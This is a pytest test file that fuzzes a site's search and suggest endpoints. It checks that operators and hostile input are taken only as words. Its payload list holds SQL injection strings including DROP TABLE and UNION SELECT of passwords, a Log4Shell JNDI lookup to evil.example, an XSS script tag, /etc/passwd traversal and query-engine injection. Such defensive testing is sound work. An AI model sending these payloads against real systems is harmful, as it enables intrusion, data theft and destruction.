"""Rule 29: what people type is words, never a program of the engine or of the database."""

import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hub.site import BASE, Site, filled_site

OPERATORS = (
    *(
        "AND",
        "OR",
        "NOT",
        "NEAR",
        "TO",
        "+",
        "-",
        "!",
        "&&",
        "||",
        "^",
        "~",
        "*",
        "?",
        ":",
        "\\",
        "/",
        "(",
        ")",
        "[",
        "]",
    ),
    *("{", "}", '"', "'", "`", ";", "--", "/*", "*/", "%", "_", "#", "@", "=", "<", ">", "|", "$", "\x00", "\u202e"),
)
SHAPES = (
    "{}",
    "{0}{0}{0}",
    "damp {}",
    "{} damp",
    "damp {} mould",
    "{}damp",
    "damp{}",
    '"damp {}',
    "title:{}damp",
    "({}",
    "damp^{}",
)
WHOLE = (
    "title:*",
    "_id:1",
    "*:*",
    "{!join from=id}",
    '{"query_string": {"query": "*"}}',
    "damp' OR '1'='1",
    "'; DROP TABLE record; --",
    "damp) UNION SELECT password FROM person --",
    "damp/**/OR/**/1=1",
    "/(a+)+$/",
    "[* TO *]",
    "damp~999999999",
    "a" * 8000,
    "damp " * 2000,
    '"' * 999,
    "(" * 999,
    "-" * 999,
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00",
    "\ufffe\uffff",
)
TYPED = (*(shape.format(one) for one, shape in itertools.product(OPERATORS, SHAPES)), *WHOLE)


def ask(site: Site, texts: tuple[str, ...]) -> None:
    client = site.app.test_client()
    for text in texts:
        for address in ("/search.json", "/suggest.json"):
            answer = client.get(address, query_string={"q": text}, base_url=BASE)
            assert answer.status_code == 200, (address, text, answer.text[:300])


@pytest.fixture(scope="module")
def embedded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    folder: Path = tmp_path_factory.mktemp("syntax") / "hub"
    with filled_site(folder) as made:
        yield made


def test_there_are_hundreds_of_them() -> None:
    assert len(TYPED) >= 450


def test_the_embedded_index_takes_them_as_words(embedded: Site) -> None:
    ask(embedded, TYPED)


@pytest.mark.server
def test_the_server_takes_them_as_words(opensearch_node: str, tmp_path: Path) -> None:
    with filled_site(tmp_path / "hub", search_url=opensearch_node) as site:
        ask(site, TYPED[::6])


def test_nobody_finds_what_they_may_not_by_a_name_of_a_field(embedded: Site) -> None:
    """A field's name is a word like others: it widens nothing."""
    every = embedded.get("/search.json?q=").get_json()["total"]
    for text in ("title:*", "[a TO z]", "_exists_:title", "damp OR *:*"):
        assert embedded.get(f"/search.json?q={text}").get_json()["total"] < every, text
